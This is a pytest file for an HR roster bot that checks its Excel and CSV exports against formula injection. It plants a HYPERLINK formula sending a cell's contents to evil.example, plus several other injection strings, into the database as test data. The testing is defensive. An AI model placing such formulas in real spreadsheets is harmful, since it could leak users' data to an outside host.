"""Issue 10 item 4: no formula injection through exports (xlsx text cells, neutralised CSV cells)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.cli import main as cli_main
from bot.fakeapi import UpdateFactory
from db import Database
from db.models import Cadre, Unit
from domain import accounts
from domain.xlsx import csv_safe
from tests.conftest import SAMPLE_ROSTER, BotHarness, link

FORMULA = '=HYPERLINK("http://evil.example/?"&A5,"Bấm")'


def _no_formulas(content: bytes) -> list[str]:
    """Every cell holding a formula, in every sheet (openpyxl reads a formula as data_type 'f')."""
    book = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _poison(db: Database) -> None:
    db.run(lambda s: s.execute(update(Cadre).values(full_name=FORMULA, position="+1+1")))
    db.run(lambda s: s.execute(update(Unit).values(name="@SUM(1)")))


@pytest.fixture
def cli_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Database:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("CADREBOT_DATABASE_URL", url)
    cli_main(["import-roster", str(SAMPLE_ROSTER)])
    db = Database.from_url(url)
    _poison(db)
    return db


def test_report_xlsx_writes_names_as_text(tmp_path: Path, cli_db: Database) -> None:
    assert cli_main(["report", "--unit", "XMH", "--xlsx", str(tmp_path / "r.xlsx")]) == 0
    content = (tmp_path / "r.xlsx").read_bytes()
    assert _no_formulas(content) == []
    people = load_workbook(io.BytesIO(content))["Cán bộ thiếu chuẩn bắt buộc"]
    assert any(c.value == FORMULA for row in people.iter_rows() for c in row)


def test_evaluations_xlsx_writes_names_as_text(tmp_path: Path, cli_db: Database) -> None:
    assert cli_main(["evaluations", "--month", "2026-11", "--xlsx", str(tmp_path / "e.xlsx")]) == 0
    assert _no_formulas((tmp_path / "e.xlsx").read_bytes()) == []


async def test_the_bots_excel_export_writes_names_as_text(bot: BotHarness, roster: Database) -> None:
    roster.run(accounts.grant_hr, "MAU004")
    hr = UpdateFactory(user_id=504)
    await link(bot, hr, "0912345004")
    _poison(roster)
    await bot.send(hr.callback("rep:x:0"))
    doc = next(c for c in bot.api.calls if c.method == "sendDocument")
    assert _no_formulas(doc.files["document"][1]) == []


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+84912", "'+84912"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Nguyễn Văn A", "Nguyễn Văn A"), ("", ""),
])
def test_csv_cells_are_neutralised(value: str, expected: str) -> None:
    assert csv_safe(value) == expected


def test_invite_out_neutralises_csv_cells(tmp_path: Path, cli_db: Database) -> None:
    out = tmp_path / "links.csv"
    assert cli_main(["invite", "--unit", "XMH", "--out", str(out)]) == 0
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    names = [r[1] for r in rows[1:]]
    assert names and all(n == "'" + FORMULA for n in names)
